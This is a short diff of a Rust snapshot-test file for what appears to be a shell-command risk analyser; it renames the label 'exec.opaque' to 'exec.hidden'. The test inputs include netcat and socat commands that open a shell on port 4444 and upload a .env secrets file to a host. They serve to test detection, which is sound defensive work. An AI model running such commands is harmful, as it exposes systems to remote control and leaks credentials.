@@ -90,7 +90,7 @@ fn copies_have_a_direction() {
 fn connections() {
     assert_snapshot!(check("nc -lvp 4444 -e /bin/sh; nc -z web 22; nc -l 4444"), @"
     exec.remote-code /bin/sh, execute
-    exec.opaque sh, execute, opaque
+    exec.hidden sh, execute, opaque
     net.listen *, write
     net.read web, read
     net.listen 4444, write
@@ -98,7 +98,7 @@ fn connections() {
     assert_snapshot!(check("socat TCP-LISTEN:4444 EXEC:/bin/sh; socat OPEN:.env TCP:web:4444"), @"
     net.listen *, write
     exec.remote-code /bin/sh, execute
-    exec.opaque sh, execute, opaque
+    exec.hidden sh, execute, opaque
     secret.read /repo/.env, read
     net.upload web, send
     ");
